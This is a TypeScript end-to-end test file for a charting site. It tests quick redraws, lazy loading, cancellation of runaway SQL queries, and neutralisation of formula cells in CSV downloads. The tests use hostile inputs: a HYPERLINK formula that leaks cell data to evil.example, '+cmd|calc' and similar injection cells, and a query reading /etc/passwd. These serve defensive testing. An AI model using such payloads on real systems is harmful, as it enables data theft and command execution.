/**
 * Issue 11 and 16 in Chromium, on the built site:
 *  - the first change of a country or of the year range redraws from the rows in the page, before
 *    any engine file is requested (the quick path); the engine loads once, on intent;
 *  - on a page whose charts have no controls, the first tooltip and the first PNG wait for
 *    nothing: tooltips load at idle, the PNG's fonts on intent, once;
 *  - a runaway SQL query is cancelled (the worker is terminated and a new engine opened and
 *    sealed again), and another query then runs without a reload;
 *  - every CSV the site offers (published table, chart CSV, SQL console export) arrives with a
 *    hostile cell neutralised (a leading `'`).
 */
import { mkdtempSync, readFileSync, rmSync, symlinkSync, mkdirSync, readdirSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openPage, startSite, type Site } from './harness.ts';
import { DIST } from './pages.ts';
import { openDuckDB, writeTable } from '../../scripts/lib/duckdb-writer.ts';

let site: Site;
beforeAll(async () => {
  site = await startSite(DIST);
});
afterAll(async () => {
  await site?.close();
});

const engineRequests = (urls: string[]) => urls.filter((u) => /\.(wasm|parquet)$/.test(u) || u.includes('/duckdb/'));
const liveState = (page: Page) =>
  page.evaluate(() => {
    const el = document.querySelector<HTMLElement>('chart-figure')!;
    return el.querySelector('.chart-svg--live svg') ? (JSON.parse(el.dataset.state!) as Record<string, unknown>) : null;
  });

describe('quick redraw', () => {
  it('unticks a country and narrows the years before any engine file is fetched', async () => {
    const w = await openPage(site, '/');
    const { page } = w;
    await page.waitForLoadState('networkidle');
    // Block the engine: the quick path must not need it.
    await w.context.route('**/duckdb/**', (r) => r.abort());
    await page.locator('input[name="countries"][value="JPN"]').uncheck();
    await page.waitForFunction(() => {
      const el = document.querySelector<HTMLElement>('chart-figure')!;
      return !!el.querySelector('.chart-svg--live svg') && !JSON.parse(el.dataset.state!).countries.includes('JPN');
    });
    const labels = await page.$$eval('chart-figure .chart-svg--live svg g.chart-labels text', (ts) => ts.map((t) => t.textContent));
    expect(labels).not.toContain('Japan');
    expect(labels).toContain('South Korea');
    await page.evaluate(() => {
      const i = document.querySelector<HTMLInputElement>('chart-figure input[name="from"]')!;
      i.value = '2005';
      i.dispatchEvent(new Event('change', { bubbles: true }));
    });
    await page.waitForFunction(() => JSON.parse(document.querySelector<HTMLElement>('chart-figure')!.dataset.state!).from === 2005);
    expect((await liveState(page))?.from).toBe(2005);
    // The engine was asked for (intent) but never delivered; the view still changed.
    expect(engineRequests(w.requests).filter((u) => u.endsWith('.parquet'))).toEqual([]);
    await w.context.close();
  });

  it('loads the engine at idle on a fast connection, once', async () => {
    const w = await openPage(site, '/', { fastConnection: true });
    await w.page.waitForFunction(() => !!document.querySelector<HTMLElement>('chart-figure')?.dataset.engineReadyMs, null, { timeout: 120_000 });
    await w.page.locator('input[name="countries"][value="JPN"]').uncheck();
    await w.page.locator('input[name="scale"][value="log"]').check();
    await w.page.waitForTimeout(500);
    expect(engineRequests(w.requests).filter((u) => u.endsWith('.wasm'))).toHaveLength(1);
    await w.context.close();
  });
});

describe('first use without waiting, where the page holds what it needs', () => {
  it('a country page: every chart shows a tooltip on its first focus with nothing left to load', async () => {
    const w = await openPage(site, '/countries/jpn/', { fastConnection: true });
    const { page } = w;
    // At idle, charts without controls load their tooltips (no pointer has come near them).
    await page.waitForFunction(() => [...document.querySelectorAll<HTMLElement>('chart-figure')].every((f) => f.dataset.statePhase === 'interactive'), null, { timeout: 60_000 });
    const figures = await page.$$eval('chart-figure', (fs) => fs.filter((f) => f.querySelector('[data-plot] [data-tip]')).length);
    expect(figures).toBeGreaterThan(1);
    await page.waitForLoadState('networkidle');
    w.requests.length = 0;
    for (let i = 0; i < figures; i++) {
      const heading = await page.evaluate((n) => {
        const f = [...document.querySelectorAll<HTMLElement>('chart-figure')].filter((x) => x.querySelector('[data-plot] [data-tip]'))[n];
        const p = f.querySelector<SVGElement>('[data-plot] svg [data-tip]')!;
        p.focus();
        const tip = f.querySelector<HTMLElement>('[data-tooltip]')!;
        // Shown in the same task as the focus: no import, no fetch in between.
        return tip.hidden ? null : tip.querySelector('strong')?.textContent;
      }, i);
      expect(heading, `figure ${i}`).toBeTruthy();
    }
    expect(w.requests).toEqual([]);
    expect(w.consoleErrors).toEqual([]);
    await w.context.close();
  }, 120_000);

  it('the PNG button fetches its fonts on intent, once: the click and a second PNG fetch nothing', async () => {
    const w = await openPage(site, '/countries/jpn/');
    const { page } = w;
    await page.waitForLoadState('networkidle');
    w.requests.length = 0;
    const png = page.locator('chart-figure button[data-act="png"]').first();
    await png.hover();
    await expect.poll(() => w.requests.filter((u) => u.endsWith('.woff2')).length, { timeout: 30_000 }).toBeGreaterThan(0);
    await page.waitForTimeout(1000);
    const fonts = w.requests.filter((u) => u.includes('/fonts/export/'));
    expect(fonts.some((u) => u.endsWith('/faces.json'))).toBe(true);
    expect(fonts.some((u) => u.endsWith('.woff2'))).toBe(true);
    w.requests.length = 0;
    for (let i = 0; i < 2; i++) {
      const [d] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), png.click()]);
      expect(d.suggestedFilename()).toMatch(/\.png$/);
    }
    expect(w.requests.filter((u) => !u.startsWith('blob:') && !u.startsWith('data:'))).toEqual([]);
    expect(w.consoleErrors).toEqual([]);
    await w.context.close();
  }, 120_000);
});

describe('SQL console: cancel and time limit', () => {
  const RUNAWAY = 'WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r';

  it('cancels a runaway query, then runs another without a reload', async () => {
    const w = await openPage(site, '/sql/');
    const { page } = w;
    await page.waitForSelector('sql-console[data-ready="true"]', { timeout: 120_000 });
    await page.fill('[data-sql-text]', RUNAWAY);
    await page.click('[data-sql-run]');
    await page.waitForSelector('[data-sql-cancel]:not([hidden])');
    await page.waitForTimeout(1000);
    // The page answers while the query runs (it runs in the worker).
    expect(await page.evaluate(() => 1 + 1)).toBe(2);
    await page.click('[data-sql-cancel]');
    await page.waitForFunction(() => document.querySelector<HTMLElement>('sql-console')!.dataset.outcome === 'cancelled', null, { timeout: 30_000 });
    expect(await page.textContent('[data-sql-message-title]')).toMatch(/cancelled/);
    // A new engine, sealed again.
    await page.waitForSelector('sql-console[data-ready="true"]', { timeout: 120_000 });
    await page.evaluate(() => delete document.querySelector<HTMLElement>('sql-console')!.dataset.outcome);
    await page.fill('[data-sql-text]', 'SELECT count(*) AS n FROM series');
    await page.click('[data-sql-run]');
    await page.waitForFunction(() => !!document.querySelector<HTMLElement>('sql-console')!.dataset.outcome, null, { timeout: 60_000 });
    expect(await page.evaluate(() => document.querySelector<HTMLElement>('sql-console')!.dataset.outcome)).toBe('ok');
    const refused = (await page.evaluate(
      (q) => (document.querySelector('sql-console') as unknown as { rawQuery(s: string): Promise<{ ok: boolean }> }).rawQuery(q),
      "SELECT * FROM read_csv('/etc/passwd')",
    )) as { ok: boolean };
    expect(refused.ok).toBe(false);
    await w.context.close();
  }, 300_000);

  it('stops a query at the time limit', async () => {
    const w = await openPage(site, '/sql/');
    const { page } = w;
    await page.evaluate(() => (document.querySelector<HTMLElement>('sql-console')!.dataset.timeLimit = '2'));
    await page.waitForSelector('sql-console[data-ready="true"]', { timeout: 120_000 });
    await page.fill('[data-sql-text]', RUNAWAY);
    await page.click('[data-sql-run]');
    await page.waitForFunction(() => document.querySelector<HTMLElement>('sql-console')!.dataset.outcome === 'timeout', null, { timeout: 60_000 });
    await w.context.close();
  }, 300_000);
});

describe('CSV downloads neutralise formula cells', () => {
  const HOSTILE = '=HYPERLINK("http://evil.example/"&A2,"Open")';
  const download = async (page: Page, click: () => Promise<void>) => {
    const [d] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), click()]);
    const chunks: Buffer[] = [];
    for await (const c of await d.createReadStream()) chunks.push(c as Buffer);
    return Papa.parse<Record<string, string>>(Buffer.concat(chunks).toString('utf8'), { header: true, skipEmptyLines: true }).data;
  };

  it('SQL console export', async () => {
    const w = await openPage(site, '/sql/');
    const { page } = w;
    await page.waitForSelector('sql-console[data-ready="true"]', { timeout: 120_000 });
    await page.fill('[data-sql-text]', `SELECT '${HOSTILE.replace(/'/g, "''")}' AS note, '@SUM(A1)' AS b, '+cmd|calc' AS c`);
    await page.click('[data-sql-run]');
    await page.waitForFunction(() => document.querySelector<HTMLElement>('sql-console')!.dataset.outcome === 'ok', null, { timeout: 60_000 });
    const rows = await download(page, () => page.click('[data-sql-export]'));
    expect(rows[0]).toMatchObject({ note: `'${HOSTILE}`, b: "'@SUM(A1)", c: "'+cmd|calc" });
    await w.context.close();
  }, 300_000);

  it('chart CSV of the view', async () => {
    const w = await openPage(site, '/');
    const { page } = w;
    // A hostile source title in the page's own rows, as a compromised data file would bring it.
    await w.context.route('**/', async (route) => {
      const res = await route.fetch();
      // The first entry of the packed string dictionary (a label, title or publisher) becomes hostile.
      const html = (await res.text()).replace(/(data-rows="\{&quot;packed&quot;:\{&quot;s&quot;:\[)&quot;(?:[^&]|&(?!quot;))*&quot;/, `$1${JSON.stringify(HOSTILE).replace(/&/g, '&amp;').replace(/"/g, '&quot;')}`);
      expect(html).toContain('HYPERLINK');
      await route.fulfill({ response: res, body: html });
    });
    await page.goto(site.url + '/');
    const rows = await download(page, () => page.click('chart-figure button[data-act="csv"]'));
    const cells = rows.flatMap((r) => Object.values(r));
    expect(cells).toContain(`'${HOSTILE}`);
    expect(cells.filter((c) => /^[=+@\t\r]/.test(c) || /^-[^0-9]/.test(c))).toEqual([]);
    await w.context.close();
  }, 120_000);

  it('published table CSV, served and downloaded like the site', async () => {
    // The publication's writer, on a hostile row, into a copy of the built site.
    const root = mkdtempSync(path.join(os.tmpdir(), 'atlas-hostile-'));
    for (const n of readdirSync(DIST)) if (n !== 'data') symlinkSync(path.join(DIST, n), path.join(root, n));
    mkdirSync(path.join(root, 'data'));
    const db = await openDuckDB();
    await writeTable(db.conn, path.join(root, 'data'), 'countries', [
      { country_code: 'ZZZ', name_en: HOSTILE, name_ja: null, name_ko: null, name_es: '-cmd', name_it: '@x', is_aggregate: false, eurostat_geo: null },
    ]);
    db.close();
    const hostile = await startSite(root);
    try {
      const w = await openPage(hostile, '/');
      const res = await w.page.request.get(hostile.url + '/data/countries.csv');
      const rows = Papa.parse<Record<string, string>>(await res.text(), { header: true, skipEmptyLines: true }).data;
      expect(rows[0]).toMatchObject({ name_en: `'${HOSTILE}`, name_es: "'-cmd", name_it: "'@x" });
      expect(readFileSync(path.join(root, 'data', 'countries.csv'), 'utf8')).not.toMatch(/^ZZZ,=/m);
      await w.context.close();
    } finally {
      await hostile.close();
      rmSync(root, { recursive: true, force: true });
    }
  }, 120_000);
});
